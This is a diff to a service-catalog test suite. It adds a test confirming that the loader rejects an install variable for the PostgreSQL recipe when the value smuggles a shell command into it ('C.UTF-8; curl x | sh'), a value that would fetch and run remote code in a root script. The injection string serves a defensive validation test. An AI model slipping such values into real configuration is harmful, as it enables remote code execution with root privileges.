@@ -280,6 +280,13 @@ describe("catalog", () => {
     expect(() => loadCatalog(bad)).toThrow(/services\/redis.yaml: \/ports\/0\/queues and locks Unexpected property/);
   });
 
+  test("a native recipe's install variables are plain words: they go before apt-get in a root script", () => {
+    const text = catalogFiles["services/postgresql.yaml"];
+    expect(text).toContain("LC_ALL: C.UTF-8");
+    const bad = { ...catalogFiles, "services/postgresql.yaml": text.replace("LC_ALL: C.UTF-8", "LC_ALL: \"C.UTF-8; curl x | sh\"") };
+    expect(() => loadCatalog(bad)).toThrow(/services\/postgresql.yaml: \/native\/installEnv\/LC_ALL/);
+  });
+
   test("a value the user must fill in before the start cannot also have one", () => {
     const text = catalogFiles["services/tailscale.yaml"];
     const bad = { ...catalogFiles, "services/tailscale.yaml": text.replace("name: TAILSCALE_AUTHKEY, beforeStart: true,", "name: TAILSCALE_AUTHKEY, beforeStart: true, default: tskey,") };
